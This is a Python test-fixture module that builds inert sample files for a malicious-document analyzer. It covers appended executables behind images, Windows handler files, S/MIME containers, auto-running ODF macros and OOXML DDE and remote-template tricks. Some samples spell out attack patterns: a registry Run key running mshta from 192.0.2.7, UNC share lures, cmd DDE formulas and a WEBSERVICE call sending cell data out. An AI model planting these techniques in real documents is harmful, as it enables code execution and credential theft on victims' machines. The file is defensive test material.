"""What others write differently, for tests, all inert: second files behind the first, signed mails, settings files, OpenDocument, odd fields."""

from __future__ import annotations

from content_writer import DOCX, PE, cfb, pdf, relation, zipped

_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82"
_JPEG = (
    b"\xff\xd8\xff\xe0\0\x10JFIF\0"
    + bytes(9)
    + b"\xff\xe1\0\x06\xff\xd9\0\0\xff\xda\0\x02\x12\xff\0\x34\xff\xd0\x56\xff\xd9"
)


def cms(kind_of: str, content: bytes) -> bytes:
    """A container of CMS without a signer; nothing in it is really encrypted."""
    from asn1crypto import cms as asn1

    if kind_of == "signed_data":
        inner = {"content_type": "data", **({"content": content} if content else {})}
        signed = {"version": "v1", "digest_algorithms": [], "encap_content_info": inner, "signer_infos": []}
        return bytes(asn1.ContentInfo({"content_type": kind_of, "content": asn1.SignedData(signed)}).dump())
    cipher = {"algorithm": "aes256_cbc", "parameters": bytes(16)}
    hidden = {"content_type": "data", "content_encryption_algorithm": cipher, "encrypted_content": content}
    sealed = {"version": "v0", "recipient_infos": [], "encrypted_content_info": hidden}
    return bytes(asn1.ContentInfo({"content_type": kind_of, "content": asn1.EnvelopedData(sealed)}).dump())


def odf(parts: dict[str, bytes]) -> bytes:
    """An OpenDocument text."""
    kind = b"application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": kind, "META-INF/manifest.xml": b"<manifest:manifest/>", **parts})


_LISTENER = b'<office:scripts><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:scripts>'
_BASIC = b'<script:module script:name="Module1" script:language="StarBasic">Sub Main\n Shell(&quot;cmd.exe /c echo&quot;, 0)\nEnd Sub</script:module>'


def _complex(*instruction: bytes) -> bytes:
    """A field of runs; what is no text of it is taken as it is."""
    runs = b"".join(
        i if i.startswith(b"<") else b"<w:instrText>" + i + b"</w:instrText>" for i in instruction
    )
    return b'<w:fldChar w:fldCharType="begin"/>' + runs + b'<w:fldChar w:fldCharType="end"/>'


_FIELD_SPELLED = _complex(b' SET c "', _complex(b" QUOTE 99 109 100 32 47 107 "), b'" ') + _complex(
    b" DDE ", _complex(b" REF c ")
)


#: By analyzer: name of the golden file, what the analyzer is told the name is, content.
GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
    "appended": [
        ("program_behind_picture", "m.png", _PNG + PE),
        ("zip_behind_gif", "m.gif", b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;" + zipped({"a.exe": PE})),
        ("zip_behind_jpeg", "m.jpg", _JPEG + zipped({"a.exe": PE}) + bytes(9)),
        ("zip_behind_pdf", "m.pdf", pdf() + zipped({"a.exe": PE})),
        ("noise_before_zip", "m.zip", b"\x93" * 200 + zipped({"a.exe": PE})),
        ("picture_behind_picture", "m.jpg", _JPEG + _JPEG),
        ("sheet_at_the_end_of_a_storage", "m.doc", cfb({"Package": DOCX.ljust(-(-len(DOCX) // 512) * 512, b"\0")})),
        ("two_picture_ends", "m.png", _PNG[:-12] + b"\0\0\0\4tEXtIEND\0\0\0\0" + _PNG[-12:]),
    ],
    "handler": [
        ("settings", "m.SettingContent-ms", b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c echo</DeepLink></PCSettings>"),
        ("settings_page", "m.SettingContent-ms", b"<PCSettings><DeepLink>%windir%\\system32\\control.exe</DeepLink></PCSettings>"),
        ("library", "m.library-ms", b"<?xml version='1.0'?><libraryDescription><url>\\\\192.0.2.7\\s</url></libraryDescription>"),
        ("own_library", "m.library-ms", b"<?xml version='1.0'?><libraryDescription><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></libraryDescription>"),
        ("console", "m.msc", b"<?xml version='1.0'?><MMC_ConsoleFile><String ID='1'>res://apds.dll/redirect.html?target=javascript:x</String></MMC_ConsoleFile>"),
        ("own_console", "m.msc", b"<?xml version='1.0'?><MMC_ConsoleFile><String ID='1'>Event Viewer</String></MMC_ConsoleFile>"),
        ("autostart", "m.reg", b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"u"="mshta http://192.0.2.7/a"\r\n'),
        ("setting", "m.reg", b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n"u"="Run cmd"\r\n'),
        ("remote_desktop", "m.rdp", b"full address:s:192.0.2.7\r\ndrivestoredirect:s:*\r\n"),
        ("own_desktop", "m.rdp", b"screen mode id:i:2\r\nfull address:s:server1\r\ndrivestoredirect:s:\r\n"),
        ("query", "m.iqy", b"WEB\r\n1\r\nhttp://192.0.2.7/a.dat\r\n"),
        ("own_query", "m.iqy", b"WEB\r\n1\r\nhttps://rates.example/today\r\n"),
        ("icon", "desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\s\\a.ico,0\r\n"),
        ("own_icon", "desktop.ini", b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,3\r\n"),
        ("folder", "m.url", b"[InternetShortcut]\r\nURL=C:\\Program Files\\Internet Explorer\\iediagcmd.exe\r\nWorkingDirectory=\\\\192.0.2.7@ssl\\x\r\n"),
        ("old_browser", "m.url", b"[InternetShortcut]\r\nURL=mhtml:http://192.0.2.7/a.html!x-usc:http://192.0.2.7/a.html\r\n"),
        ("installs", "m.application", b"<?xml version='1.0'?><asmv1:assembly xmlns='x'><deployment install='true'><deploymentProvider codebase=\"http://192.0.2.7/a.application\"/></deployment></asmv1:assembly>"),
    ],
    "smime": [
        ("signed", "smime.p7m", cms("signed_data", b"Content-Type: text/plain\r\n\r\nThe minutes.\r\n")),
        ("beside", "smime.p7s", cms("signed_data", b"")),
        ("encrypted", "smime.p7m", cms("enveloped_data", b"noise")),
        ("cut", "smime.p7m", cms("signed_data", b"Content-Type: text/plain\r\n\r\nThe minutes.\r\n")[:-20]),
    ],
    "odf_macro": [
        ("starts_by_itself", "m.odt", odf({"content.xml": _LISTENER, "Basic/Standard/Module1.xml": _BASIC, "Scripts/python/a.py": b"import os\nos.system('echo')\n"})),
        ("by_a_button", "m.odt", odf({"content.xml": _LISTENER.replace(b"dom:load", b"dom:click"), "Basic/Standard/Module1.xml": _BASIC})),
        ("plain", "m.odt", odf({"content.xml": b"<office:document-content/>"})),
    ],
    "ooxml": [
        ("template_of_this_machine", "settings.xml.rels", relation("attachedTemplate", "file:///C:\\Users\\a\\Firm.dotx")),
        ("template_of_the_house", "settings.xml.rels", relation("attachedTemplate", "file:///\\\\files\\templates\\Firm.dotx")),
        ("template_of_a_share", "settings.xml.rels", relation("attachedTemplate", "file:///\\\\192.0.2.7\\s\\t.dotm")),
        ("link_to_program", "slide1.xml.rels", relation("hyperlink", "powershell%20-NoP%20-W%20Hidden")),
        ("link_to_share", "document.xml.rels", relation("hyperlink", "\\\\192.0.2.7@80\\dav\\a.lnk")),
        ("link_about_powershell", "document.xml.rels", relation("hyperlink", "https://learn.example/powershell -command")),
        ("slide_starts_program", "slide1.xml", b"<p:sld><a:hlinkMouseOver r:id='r1' action='ppaction://program'/><a:hlinkClick r:id='r2' action='ppaction://hlinksldjump'/></p:sld>"),
        ("dde_spelled", "document.xml", b"<w:document>" + _FIELD_SPELLED + b"</w:document>"),
        ("dde_of_another_prefix", "document.xml", b'<ns0:document><ns0:fldSimple ns0:instr="DDEAUTO cmd /k"/></ns0:document>'),
        ("dde_formula", "sheet1.xml", b"<worksheet><c><f>SUM(1,2)*cmd|'/k echo'!A0</f></c></worksheet>"),
        ("formula_with_text", "sheet1.xml", b"<worksheet><c><f>IF(A1=&quot;a|b!c&quot;,&quot;cmd|x!y&quot;,2)</f></c></worksheet>"),
        ("formula_fetches", "sheet1.xml", b"<worksheet><c><f>_xlfn.WEBSERVICE(&quot;http://192.0.2.7/&quot;&amp;A2)</f></c></worksheet>"),
        ("picture_of_a_share", "document.xml", b'<w:document><w:fldSimple w:instr="INCLUDEPICTURE \\\\192.0.2.7\\s\\a.png \\d"/></w:document>'),
        ("picture_of_a_page", "document.xml", b'<w:document><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://www.example/a.png&quot;"/></w:document>'),
    ],
    "word_field": [
        ("table", "m.csv", b'\xef\xbb\xbf"x";"@SUM(1+1)*cmd|\' /C echo\'!A0"\n'),
        ("honest_table", "m.csv", b"name,pipes|bars!,@home\n-1,2,=1+1\n"),
    ],
}  # fmt: skip
